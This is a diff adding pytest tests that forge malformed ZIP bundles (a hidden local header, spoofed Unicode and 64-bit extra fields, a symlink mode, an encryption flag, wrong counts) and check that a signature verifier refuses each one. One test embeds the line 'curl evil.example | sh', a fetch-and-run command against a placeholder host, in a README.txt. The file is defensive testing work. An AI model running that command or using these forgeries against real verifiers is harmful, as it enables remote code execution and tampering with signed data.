@@ -343,6 +343,80 @@ def test_members_that_lie_in_one_place_are_refused_without_a_warning(
     assert "lies in the same place as" in checked.stderr
 
 
+def end_of(data: bytes) -> tuple[int, int]:
+    """Where the directory of a ZIP file begins, and the record behind it."""
+    end = data.rindex(b"PK\5\6")
+    return struct.unpack("<I", data[end + 16 : end + 20])[0], end
+
+
+def put(data: bytes, at: int, shape: str, value: int) -> bytes:
+    return data[:at] + struct.pack(shape, value) + data[at + struct.calcsize(shape) :]
+
+
+def in_the_directory(data: bytes, number: int, extra: bytes, comment: bytes = b"") -> bytes:
+    """With more said of a member there, and all the lengths right."""
+    at, end = end_of(data)
+    for _ in range(number):
+        at += 46 + sum(struct.unpack("<3H", data[at + 28 : at + 34]))
+    name, _, _ = struct.unpack("<3H", data[at + 28 : at + 34])
+    size = struct.unpack("<I", data[end + 12 : end + 16])[0] + len(extra + comment)
+    data = put(data, end + 12, "<I", size)
+    data = put(put(data, at + 30, "<H", len(extra)), at + 32, "<H", len(comment))
+    return data[: at + 46 + name] + extra + comment + data[at + 46 + name :]
+
+
+def test_no_program_reads_something_else_in_it(whole: Path, keyid: str, check: Check, tmp_path: Path) -> None:
+    data = whole.read_bytes()
+    directory, end = end_of(data)
+    event = data.index(b"0000000001/event.json") - 30
+    hidden = b"PK\3\4" + bytes(26) + b"what a program shows that reads from the front"
+    unicode_path = struct.pack("<2HBI", 0x7075, 14, 1, zlib.crc32(b"0000000001/event.json")) + b"evil.html"
+    forged = {
+        "behind all of it": data + b"#",
+        "a comment": put(data, end + 20, "<H", 5) + b"hello",
+        "before the directory": put(
+            data[:directory] + hidden + data[directory:], end + len(hidden) + 16, "<I", directory + len(hidden)
+        ),
+        "fewer members than there are": put(put(data, end + 8, "<H", 3), end + 10, "<H", 3),
+        "another disk": put(data, end + 4, "<H", 1),
+        "a member's comment": in_the_directory(data, 1, b"", b"see index.html"),
+        "another name in Unicode": in_the_directory(data, 2, unicode_path),
+        "another size in 64 bits": in_the_directory(data, 2, struct.pack("<2HQ", 1, 8, 5)),
+        "a symbolic link": put(data, directory + 38, "<I", 0o120777 << 16),
+        "encrypted": put(data, directory + 8, "<H", 1),
+    }
+    forged |= {f"where it lies, byte {at}": put(data, event + at, "<H", 99) for at in (4, 6, 8, 10, 12, 14, 18, 22)}
+    for name, content in forged.items():
+        (tmp_path / "forged.zip").write_bytes(content)
+        checked = check(tmp_path / "forged.zip", keyid)
+        assert (refused(checked), checked.stdout, checked.stderr.count("\n")) == (True, "", 1), name
+
+
+def test_what_nobody_signs_is_what_devices_write(whole: Path, keyid: str, check: Check, tmp_path: Path) -> None:
+    for name, content in {"README.txt": b"curl evil.example | sh", f"keys/{'0' * 16}.pub": bytes(32)}.items():
+        checked = check(zipped({**parts(whole), name: content}, tmp_path / "forged.zip"), keyid)
+        assert (refused(checked), checked.stdout, name in checked.stderr) == (True, "", True)
+
+
+def test_a_bundle_of_more_members_than_16_bits_count_holds(
+    whole: Path, keyid: str, repository: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    monkeypatch.syspath_prepend(str(repository / "docs"))
+    import verify_bundle
+
+    path = tmp_path / "large.zip"
+    with ZipFile(path, "w") as made:
+        for number in range(0x10001):
+            made.writestr(f"{number:010}/event.json", b"")
+    with path.open("rb") as file, ZipFile(file) as bundle:
+        verify_bundle.see_places(bundle.infolist(), file)
+        far = bundle.infolist()[-1]
+        far.header_offset = 0x80000000
+        with ZipFile(tmp_path / "far.zip", "w") as made:
+            made.filelist = [far]
+        assert verify_bundle.directory([far], 0) in (tmp_path / "far.zip").read_bytes()
+
+
 def test_a_file_that_is_there_is_not_overwritten(journal: Journal, whole: Path) -> None:
     before = whole.read_bytes()
     with pytest.raises(UnreadableInput, match=r"whole\.zip: exists already; name another file"):
